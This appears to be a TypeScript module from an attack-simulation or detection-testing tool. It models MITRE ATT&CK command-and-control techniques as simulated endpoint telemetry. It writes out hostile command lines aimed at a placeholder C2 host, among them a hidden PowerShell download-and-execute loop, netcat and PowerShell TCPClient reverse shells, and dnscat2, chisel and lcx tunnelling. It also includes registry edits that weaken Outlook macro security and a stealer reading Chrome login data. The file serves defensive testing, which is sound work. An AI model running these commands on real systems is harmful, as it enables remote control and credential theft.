import { t, v } from "../dsl";

const OUTLOOK = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE";

/**
 * LDAPFragger (Fox-IT): beacon traffic relayed between two network segments through the user's own AD
 * attributes over LDAPS. It advertises in primaryInternationalISDNNumber / otherFacsimileTelephoneNumber /
 * primaryTelexNumber and clears values once read; with auditing on user objects the DC logs each 5136.
 */
const ldapFragger = v(
  "ldapfragger",
  [
    {
      cmd: "{{tools}}\\LDAPFragger.exe --cshost {{c2ip}} --csport 2222",
      net: [
        ["{{c2ip}}", 2222],
        ["@dc", 636],
      ],
      keep: true,
      then: [
        {
          id: "logon",
          kind: "logon",
          host: "@dc",
          session: "ldap",
          user: "@user",
          logonType: 3,
          source: "@workstation",
          authPackage: "Kerberos",
        },
        {
          id: "advert",
          kind: "directory.change",
          host: "@dc",
          session: "ldap",
          object: "@user",
          objectClass: "user",
          changes: [
            {
              attribute:
                "{{primaryInternationalISDNNumber|otherFacsimileTelephoneNumber|primaryTelexNumber}}",
              value: "{{$advert}}",
            },
          ],
          delayMs: 400,
        },
        {
          id: "data",
          kind: "directory.change",
          host: "@dc",
          session: "ldap",
          object: "@user",
          objectClass: "user",
          changes: [{ attribute: "{{$dataAttr}}", value: "{{$frag}}" }],
          delayMs: 3000,
        },
        {
          id: "clear",
          kind: "directory.change",
          host: "@dc",
          session: "ldap",
          object: "@user",
          objectClass: "user",
          changes: [{ attribute: "{{$dataAttr}}", value: "{{$frag}}", op: "delete" }],
          delayMs: 5000,
        },
      ],
    },
  ],
  {
    vars: {
      dataAttr: "{{userSMIMECertificate|thumbnailPhoto|userCert}}",
      advert: "{{MzFhNGQ5YzA|ZTA5YjRmMjE|N2M1ZDAxYmE}}{{rand2}}{{rand}}{{rand2}}",
      frag: "VHlwZTowDQpJRDp{{rand2}}{{rand}}{{rand2}}{{rand}}",
    },
  },
);

/** Command and control: implant traffic and tunnelling tools as they appear on the endpoint. */
export const commandAndControl = [
  t("T1001", "Data obfuscation", "C2 traffic hidden in innocuous-looking requests by the implant.", [
    v("beacon", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{c2}}", 443]], keep: true }], {
      shell: "none",
    }),
    ldapFragger,
  ]),
  t("T1001.001", "Junk data", "An implant padding its HTTP traffic with junk.", [
    v("beacon", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{c2}}", 80]], keep: true }], { shell: "none" }),
  ]),
  t("T1001.002", "Steganography", "C2 commands fetched inside images.", [
    v(
      "image-c2",
      [
        {
          ps: "$img = (New-Object Net.WebClient).DownloadData('https://{{c2}}/logo.png')",
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1001.003", "Protocol impersonation", "C2 shaped like a known service's traffic.", [
    ldapFragger,
    v(
      "fake-update",
      [{ cmd: "{{local}}\\Microsoft\\{{name}}.exe", net: [["update-{{c2}}", 443]], keep: true }],
      { shell: "none" },
    ),
  ]),
  t("T1008", "Fallback channels", "An implant trying a second channel after the first fails.", [
    // The primary domain no longer resolves (taken down), so the implant falls back to its hard-coded address.
    v(
      "fallback",
      [
        {
          cmd: "{{appdata}}\\{{name}}.exe",
          then: [
            { id: "primary", kind: "dns.query", name: "{{c2}}", status: 9003 },
            { id: "backup", kind: "network.connect", remote: "{{c2ip}}", port: 8443, delayMs: 30000 },
          ],
          keep: true,
        },
      ],
      { shell: "none" },
    ),
    // Backup channel by mail (NotDoor-style Outlook VBA): macro security lowered, the mail-triggered project
    // saved by Outlook as VbaProject.OTM; commands arrive by e-mail when the HTTP channel is down.
    v("outlook-vba-channel", [
      {
        cmd: 'reg add "HKCU\\Software\\Microsoft\\Office\\16.0\\Outlook" /v LoadMacroProviderOnBoot /t REG_DWORD /d 1 /f',
        reg: [
          ["HKCU\\Software\\Microsoft\\Office\\16.0\\Outlook", "LoadMacroProviderOnBoot", "1", "REG_DWORD"],
        ],
      },
      {
        cmd: 'reg add "HKCU\\Software\\Microsoft\\Office\\16.0\\Outlook\\Security" /v Level /t REG_DWORD /d 1 /f',
        reg: [["HKCU\\Software\\Microsoft\\Office\\16.0\\Outlook\\Security", "Level", "1", "REG_DWORD"]],
      },
      {
        cmd: `"${OUTLOOK}" `,
        parent: "@explorer",
        files: ["{{appdata}}\\Microsoft\\Outlook\\VbaProject.OTM"],
        net: [["outlook.office365.com", 443]],
        keep: true,
      },
    ]),
  ]),
  t("T1071", "Application layer protocol", "C2 over standard application protocols.", [
    v("https", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{c2}}", 443]], keep: true }], { shell: "none" }),
  ]),
  t("T1071.001", "Web protocols", "HTTP(S) beacons from an implant or a PowerShell loop.", [
    v("implant-https", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{c2}}", 443]], keep: true }], {
      shell: "none",
    }),
    // A hidden polling loop is started by persistence (a Run value at logon), not typed at a prompt.
    v(
      "ps-loop",
      [
        {
          cmd: 'powershell.exe -nop -w hidden -c "while($true){$r=iwr -UseBasicParsing https://{{c2}}/api/v1/{{rand}};iex $r.Content;sleep 60}"',
          parent: "@explorer",
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "none" },
    ),
    v("rundll32-beacon", [
      { cmd: "rundll32.exe {{appdata}}\\{{rand}}.dll,StartW", net: [["{{c2}}", 443]], keep: true },
    ]),
  ]),
  t("T1071.002", "File transfer protocols", "FTP used as a channel with ftp.exe -s script.", [
    v("ftp-script", [{ cmd: "ftp.exe -i -s:{{tmp}}\\{{rand}}.txt {{c2}}", net: [["{{c2}}", 21]] }]),
    // Commodity stealers/RATs (Agent Tesla, SilverTerrier kits) log in to an FTP drop and upload reports.
    v(
      "implant-ftp",
      [
        {
          cmd: "{{appdata}}\\{{name}}.exe",
          reads: ["{{local}}\\Google\\Chrome\\User Data\\Default\\Login Data"],
          net: [
            ["ftp.{{c2}}", 21],
            ["ftp.{{c2}}", 50123],
          ],
          keep: true,
        },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1071.003", "Mail protocols", "SMTP/IMAP used by an implant for commands.", [
    v("smtp", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["smtp.{{c2}}", 587]] }], { shell: "none" }),
    // Commands read from a webmail inbox over IMAPS (Zebrocy/CHOPSTICK-style use of public mail providers).
    v(
      "imap-poll",
      [
        {
          cmd: "{{appdata}}\\{{name}}.exe",
          net: [["imap.{{gmail.com|mail.ru|yandex.ru|seznam.cz}}", 993]],
          keep: true,
        },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1071.004", "DNS", "DNS tunnelling (dnscat2, iodine) with many TXT queries to one domain.", [
    v("dnscat2", [
      {
        cmd: "{{tools}}\\dnscat2.exe --dns server={{c2ip}},domain={{c2}} --secret={{rand2}}",
        dns: ["a1{{rand}}.{{c2}}", "b2{{rand}}.{{c2}}", "c3{{rand}}.{{c2}}", "d4{{rand}}.{{c2}}"],
      },
    ]),
    v("nslookup-txt", ["nslookup -q=txt {{rand}}.{{c2}}", "nslookup -q=txt {{rand2}}.{{c2}}"]),
    v(
      "dnscat2-ps",
      [
        {
          ps: "Start-Dnscat2 -Domain {{c2}} -DNSServer {{c2ip}}",
          dns: ["{{rand}}.{{c2}}", "{{rand2}}.{{c2}}"],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1071.005", "Publish/subscribe protocols", "MQTT used as a C2 channel.", [
    v("mqtt", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["broker.{{c2}}", 1883]], keep: true }], {
      shell: "none",
    }),
  ]),
  t("T1090", "Proxy", "Traffic relayed through a proxy tool on the host.", [
    v(
      "netsh-portproxy",
      [
        "netsh interface portproxy add v4tov4 listenport=8080 listenaddress=0.0.0.0 connectport=443 connectaddress={{c2ip}}",
      ],
      { elevated: true },
    ),
    // lcx/HTran (long a staple of Chinese-speaking crews): the host dials out and relays its own RDP port.
    v("lcx-slave", [
      {
        cmd: "{{tools}}\\lcx.exe -slave {{c2ip}} 443 127.0.0.1 3389",
        net: [
          ["{{c2ip}}", 443],
          ["127.0.0.1", 3389],
        ],
        keep: true,
      },
    ]),
    // iox in reverse-SOCKS mode: the operator's tools reach the internal network through the host.
    v("iox-reverse-socks", [
      { cmd: "{{tools}}\\iox.exe proxy -r {{c2ip}}:443", net: [["{{c2ip}}", 443]], keep: true },
    ]),
  ]),
  t("T1090.001", "Internal proxy", "netsh portproxy or a SOCKS tool relaying inside the network.", [
    v(
      "netsh-portproxy",
      [
        {
          cmd: "netsh interface portproxy add v4tov4 listenport=4444 listenaddress=0.0.0.0 connectport=3389 connectaddress={{srvip}}",
          reg: [
            [
              "HKLM\\SYSTEM\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp",
              "0.0.0.0/4444",
              "{{srvip}}/3389",
            ],
          ],
        },
      ],
      { elevated: true },
    ),
    // NPS client (npc), common with Chinese-speaking intruders: the server and key come from its config file.
    v("nps-client", [
      {
        cmd: "{{tools}}\\npc.exe -config=npc.conf",
        cwd: "{{tools}}",
        reads: ["{{tools}}\\npc.conf"],
        net: [["{{c2ip}}", 8024]],
        keep: true,
      },
    ]),
    v("chisel", [{ cmd: "{{tools}}\\chisel.exe client {{c2}}:443 R:socks", net: [["{{c2}}", 443]] }]),
  ]),
  t("T1090.002", "External proxy", "Traffic sent through a public proxy/VPS.", [
    v("proxychains", [
      { cmd: "{{tools}}\\{{name}}.exe --proxy socks5://{{c2ip}}:1080", net: [["{{c2ip}}", 1080]] },
    ]),
  ]),
  t("T1090.003", "Multi-hop proxy", "Tor started on the host.", [
    // Tor Expert Bundle dropped beside the implant: tor.exe builds circuits to relays (ORPort 9001/443) and
    // offers SOCKS on 127.0.0.1:9050; the implant reaches its .onion C2 through it.
    v(
      "tor",
      [
        {
          cmd: '"{{appdata}}\\tor\\tor.exe" -f "{{appdata}}\\tor\\torrc" SocksPort 9050',
          as: "tor",
          parent: "@explorer",
          files: ["{{appdata}}\\tor\\torrc", "{{appdata}}\\tor\\data\\cached-microdesc-consensus"],
          net: [
            ["{{c2ip}}", 9001],
            ["{{ip}}", 443],
          ],
          keep: true,
        },
        { cmd: "{{appdata}}\\{{name}}.exe", parent: "@explorer", net: [["127.0.0.1", 9050]], keep: true },
      ],
      { shell: "none" },
    ),
    // RDP reachable from anywhere through an onion service, Tor installed as a Windows service.
    v(
      "tor-onion-rdp",
      [
        {
          cmd: "C:\\ProgramData\\tor\\tor.exe --service install -options -f C:\\ProgramData\\tor\\torrc",
          files: ["C:\\ProgramData\\tor\\torrc"],
          then: [
            {
              id: "svc",
              kind: "service.install",
              name: "tor",
              displayName: "Tor Win32 Service",
              imagePath: '"C:\\ProgramData\\tor\\tor.exe" --nt-service -f "C:\\ProgramData\\tor\\torrc"',
              startType: "auto start",
            },
          ],
        },
      ],
      { elevated: true },
    ),
    // Tor Browser: the user starts firefox.exe, which runs the bundled tor.exe with its control and SOCKS ports.
    v(
      "tor-browser",
      [
        {
          cmd: '"{{home}}\\Desktop\\Tor Browser\\Browser\\firefox.exe" ',
          as: "ff",
          parent: "@explorer",
          keep: true,
        },
        {
          cmd: '"{{home}}\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Tor\\tor.exe" -f "{{home}}\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Data\\Tor\\torrc" DataDirectory "{{home}}\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Data\\Tor" +__ControlPort 127.0.0.1:9151 +__SocksPort "127.0.0.1:9150 IPv6Traffic PreferIPv6 KeepAliveIsolateSOCKSAuth" __OwningControllerProcess {pid:ff}',
          parent: "ff",
          net: [["{{c2ip}}", 443]],
        },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1090.004", "Domain fronting", "HTTPS to a CDN with a different Host header.", [
    v("fronted", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["ajax.aspnetcdn.com", 443]], keep: true }], {
      shell: "none",
    }),
    // Tor with the meek transport (as APT29's Tor backdoor): tor.exe runs lyrebird, which fronts through a CDN.
    v(
      "tor-meek",
      [
        {
          cmd: '"{{appdata}}\\tor\\tor.exe" -f "{{appdata}}\\tor\\torrc"',
          as: "tor",
          parent: "@explorer",
          files: ["{{appdata}}\\tor\\torrc"],
          keep: true,
        },
        {
          cmd: "{{appdata}}\\tor\\pluggable_transports\\lyrebird.exe",
          parent: "tor",
          net: [["ajax.aspnetcdn.com", 443]],
          keep: true,
        },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1092", "Communication through removable media", "Commands staged on a USB drive.", [
    v("usb", [
      { cmd: "cmd.exe /c copy E:\\{{rand}}.dat {{appdata}}\\", files: ["{{appdata}}\\{{rand}}.dat"] },
    ]),
  ]),
  t("T1095", "Non-application layer protocol", "Raw TCP reverse shells (netcat, PowerShell TcpClient).", [
    // -e hands the connection to a cmd.exe child: the operator's shell.
    v("ncat", [
      {
        cmd: "{{tools}}\\nc64.exe {{c2ip}} 4444 -e cmd.exe",
        net: [["{{c2ip}}", 4444]],
        as: "nc",
        keep: true,
      },
      { cmd: "cmd.exe", parent: "nc", keep: true },
    ]),
    v(
      "ps-tcpclient",
      [
        {
          ps: "$c = New-Object System.Net.Sockets.TCPClient('{{c2ip}}',4444);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){;$d = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0, $i);$sb = (iex $d 2>&1 | Out-String )}",
          net: [["{{c2ip}}", 4444]],
        },
      ],
      { shell: "ps" },
    ),
    v("icmp", ["{{tools}}\\icmpsh.exe -t {{c2ip}}"]),
  ]),
];
